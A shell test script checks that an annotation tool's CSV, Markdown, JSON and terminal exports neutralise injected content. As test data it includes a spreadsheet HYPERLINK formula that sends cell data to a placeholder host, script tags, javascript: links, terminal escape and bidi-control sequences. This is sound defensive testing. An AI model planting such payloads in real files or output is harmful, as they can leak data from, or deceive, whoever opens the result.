#!/bin/bash
# export.sh: exports that cannot be turned against their reader.
#
# CSV fields a spreadsheet would run as formulas start with a quote mark
# (unless --raw); Markdown keeps every annotation whatever bytes its note
# holds, escapes HTML and whatever would forge headings, quotes, lists or
# links, links only http(s) addresses and keeps a quote of two paragraphs
# one blockquote; to a terminal, CSV and Markdown show controls as ^X and
# drop bidi controls; JSON escapes DEL, C1 and bidi controls and reads back
# the same; the plain listing prints any id safely; -o replaces a file
# only whole (a full disk leaves it as it was), made 0600, and says when
# it names a folder.
. "$top_srcdir/tests/lib.sh"

SQL=$top_builddir/tests/helpers/sqlexec
fresh_library
ESC=$(printf '\033')

# Two articles of our own: a title full of HTML and Markdown with a
# javascript: address, and one with an https address.
printf '%s\n' \
	'{"title":"<b>Tom & \"Jerry\"</b> # [x](javascript:alert(1))","text":"Primo paragrafo qui.\n\nSecondo paragrafo là, con altre parole.","date":"2024-06-19","url":"javascript:alert(1)"}' \
	'{"title":"Notizia sicura","text":"Un testo qualunque per la seconda notizia di prova.","url":"https://example.org/a_(b)?q=<x>"}' \
	>"$TEST_TMP/arts.jsonl"
"$MARGO" add "$TEST_TMP/arts.jsonl" >/dev/null 2>&1
[ "$("$MARGO" list | wc -l)" = 7 ] || echo "Bail out! the articles of the test were not added"

# ---- CSV: formulas ---------------------------------------------------------------------
"$MARGO" annotate 1 0 20 --tag "+cmd" --note '=HYPERLINK("http://x.example/?"&A1,"clic")' \
	--author "@SUM(1+1)" >/dev/null
"$MARGO" annotate 2 0 20 --tag "sicuro" --note "$(printf '\t-2+3')" >/dev/null
csv=$("$MARGO" export --format csv)
Q="'"
has "$csv" ",\"${Q}=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"clic\"\")\"," \
	"CSV: a note starting with = is written as text, a quote mark before it inside quotes"
has "$csv" ",\"${Q}+cmd\"," "CSV: a tag starting with + gets the quote mark too"
has "$csv" ",\"${Q}@SUM(1+1)\"," "CSV: an author starting with @ gets it too"
has "$csv" "$(printf ',"%s\t-2+3",' "$Q")" "CSV: a note starting with a tab gets it too"
raw=$("$MARGO" export --format csv --raw)
has "$raw" ',"=HYPERLINK(""http://x.example/?""&A1,""clic"")",' \
	"CSV --raw writes the fields as they are"
has "$("$MARGO" export --help)" "--raw" "export --help tells of --raw"

# ---- Markdown --------------------------------------------------------------------------
fresh_library
"$MARGO" add "$TEST_TMP/arts.jsonl" >/dev/null 2>&1
"$MARGO" annotate 1 0 20 --tag "a" --note "$(printf 'prima\036falsa\037## forgiata\037x\037y\037z\037w\036')" >/dev/null
"$MARGO" annotate 2 0 20 --tag "a" --note "seconda" >/dev/null
"$MARGO" annotate 3 0 20 --tag "<i>tag</i>" \
	--note "$(printf '<script>alert(1)</script> & "q"\n# titolo\n> citazione\n- voce\n1. primo\n    codice\n[x](javascript:alert(1))')" >/dev/null
"$MARGO" annotate 6 6 29 --tag "p" >/dev/null
"$MARGO" annotate 7 0 8 --tag "p" >/dev/null
md=$("$MARGO" export --format markdown)
is "$(printf '%s\n' "$md" | grep -c '^> ')" 6 \
	"Markdown: every annotation is there once (6 quote lines), whatever bytes a note holds"
has "$md" "$(printf 'prima\036falsa\037\\#\\# forgiata')" \
	"Markdown: a note holding bytes 0x1e and 0x1f is written whole, not cut into forged entries"
has "$md" '&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;q&quot;' "Markdown: HTML in a note is escaped"
hasnt "$md" "<script>" "Markdown: no raw HTML from a note"
has "$md" $'## &lt;i&gt;tag&lt;\n\n### i&gt;\n' "Markdown: HTML in a tag is escaped (its / makes two levels)"
has "$md" '### &lt;b&gt;Tom &amp; &quot;Jerry&quot;&lt;/b&gt; \# \[x\](javascript:alert(1)) (2024-06-19)' \
	"Markdown: HTML and link syntax in a title are escaped, and a javascript: address is not linked"
unlike "$md" '^# titolo|^> citazione|^- voce|^1\. primo|^    codice' \
	"Markdown: note lines do not become headings, quotes, lists or code"
has "$md" "$(printf '\\# titolo\n&gt; citazione\n\\- voce\n1\\. primo\n&#32;   codice')" \
	"Markdown: they are shown as written, escaped"
unlike "$md" '(^|[^\\])\]\(javascript' "Markdown: no link to a javascript: address at all"
has "$md" '### [Notizia sicura](https://example.org/a_%28b%29?q=%3Cx%3E)' \
	"Markdown: an https address is linked, its parentheses and brackets encoded"
has "$md" "$(printf '> paragrafo qui.\n>\n> Secondo\n')" \
	"Markdown: a quote of two paragraphs stays one blockquote"

# ---- to a terminal ------------------------------------------------------------------------
fresh_library
"$MARGO" annotate 1 0 20 --tag "$(printf 'red\033[31m')" \
	--note "$(printf 'set title\033]0;pwned\007 and \342\200\256reversed\302\205')" >/dev/null
if command -v script >/dev/null 2>&1; then
	for f in csv markdown; do
		case $f in
		csv) shown='set title^[]0;pwned^G and reversed~E' ;;
		markdown) shown='set title^\[\]0;pwned^G and reversed\~E' ;;
		esac
		script -qec "\"$MARGO\" export --format $f" /dev/null </dev/null >"$TEST_TMP/tty.$f" 2>&1
		out=$(cat "$TEST_TMP/tty.$f")
		piped=$("$MARGO" export --format $f | cat)
		if ! printf '%s' "$out" | grep -q "$ESC" && ! printf '%s' "$out" | grep -q $'\u202e' &&
			printf '%s' "$piped" | grep -q "$ESC"; then
			pass "$f to a terminal: no escape sequence, no bidi control (to a pipe: the bytes as they are)"
		else
			fail "$f to a terminal: no escape sequence, no bidi control (to a pipe: the bytes as they are)" \
				"$(cat -A "$TEST_TMP/tty.$f")"
		fi
		has "$out" "$shown" "$f to a terminal: controls are shown as ^X and ~X"
	done
else
	skip "CSV and Markdown to a terminal" "no script(1) to give margo a terminal"
fi

# ---- JSON ---------------------------------------------------------------------------------
fresh_library
note=$(printf 'del\177 c1\302\205 rlo\342\200\256 lri\342\201\246 lrm\342\200\216 alm\330\234 ls\342\200\250 fine')
id=$("$MARGO" annotate 2 0 20 --tag "t$(printf '\342\200\256')" --note "$note")
jsonl=$("$MARGO" export --format jsonl)
w3c=$("$MARGO" export --format w3c)
has "$jsonl" '"value":"del\u007f c1\u0085 rlo\u202e lri\u2066 lrm\u200e alm\u061c ls\u2028 fine"' \
	"JSON Lines: DEL, C1, bidi controls and U+2028 are \\u escapes"
has "$jsonl" '"value":"t\u202e"' "JSON Lines: in tags too"
has "$w3c" '"value":"del\u007f c1\u0085 rlo\u202e' "W3C JSON-LD: the same"
has "$("$MARGO" annotations --format jsonl)" 'rlo\u202e' "annotations --format jsonl: the same"
# Read back: import the export into another library, the same note comes out.
fresh_library "$TEST_TMP/other.db"
"$MARGO" --db "$TEST_TMP/other.db" import - <<<"$jsonl" >/dev/null
back=$("$MARGO" --db "$TEST_TMP/other.db" export --format jsonl)
if [ "$back" = "$jsonl" ] && has_esc=$(printf '%s' "$back" | grep -c 'rlo\\u202e') && [ "$has_esc" = 1 ]; then
	pass "JSON Lines: escaped, and read back by import to the same values"
else
	fail "JSON Lines: escaped, and read back by import to the same values" "$back"
fi

# ---- ids ----------------------------------------------------------------------------------
fresh_library
a=$("$MARGO" annotate 1 0 20)
b=$("$MARGO" annotate 2 0 20)
"$SQL" "$MARGO_DB" "UPDATE annotation SET id = 'x' WHERE id = '$a';
	UPDATE annotation SET id = 'urn:uuid:' || char(27) || '[2Jevil' || char(8238) WHERE id = '$b'" ||
	echo "Bail out! sqlexec failed"
out=$("$MARGO" annotations 2>&1)
like "$out" '^x  1:0-20  exact' "annotations: an id without urn:uuid: is printed whole"
like "$out" '^\^\[\[2Jevil  2:0-20' "annotations: an id with controls is printed made safe"
hasnt "$out" "$ESC" "annotations: no escape sequence from an id reaches the terminal"

# ---- -o ------------------------------------------------------------------------------------
fresh_library
big=$(head -c 100000 /dev/zero | tr '\0' 'n')
"$MARGO" annotate 1 0 20 --tag grande --note "$big" >/dev/null
mkdir "$TEST_TMP/out"
err=$("$MARGO" export --format csv -o "$TEST_TMP/out" 2>&1)
like "$err" "^margo: .*/out: is a folder" "-o naming a folder says it is a folder"
echo "old export" >"$TEST_TMP/out/prev.csv"
chmod 644 "$TEST_TMP/out/prev.csv"
"$MARGO" export --format csv -o "$TEST_TMP/out/prev.csv" --force
if [ "$(stat -c %a "$TEST_TMP/out/prev.csv")" = 600 ] && head -1 "$TEST_TMP/out/prev.csv" | grep -q '^id,article'; then
	pass "--force: the replaced file has the export and is made 0600"
else
	fail "--force: the replaced file has the export and is made 0600" "$(ls -l "$TEST_TMP/out")"
fi

# A full disk: a file-size limit (see diskfull.sh).
limited() {
	(
		ulimit -f "$1" || exit 99
		trap '' XFSZ
		shift
		exec "$@"
	)
}
echo "old export" >"$TEST_TMP/out/prev.csv"
err=$(limited 64 "$MARGO" export --format csv -o "$TEST_TMP/out/prev.csv" --force 2>&1)
rc=$?
if [ "$rc" = 3 ] && [ "$(cat "$TEST_TMP/out/prev.csv")" = "old export" ]; then
	pass "a full disk: export exits 3 and the previous file is as it was"
else
	fail "a full disk: export exits 3 and the previous file is as it was" "rc $rc" "$(head -c 200 "$TEST_TMP/out/prev.csv")"
fi
like "$err" "^margo: .*/prev.csv: cannot write: disk full or file too large; the file is as it was" \
	"a full disk: margo says the disk is full and that the file is as it was"
err=$(limited 64 "$MARGO" export --format markdown -o "$TEST_TMP/out/new.md" 2>&1)
if [ "$?" = 3 ] && [ "$(ls -A "$TEST_TMP/out")" = prev.csv ]; then
	pass "a full disk: a new file is not made, nor any temporary file left"
else
	fail "a full disk: a new file is not made, nor any temporary file left" "$(ls -A "$TEST_TMP/out")" "$err"
fi

done_testing
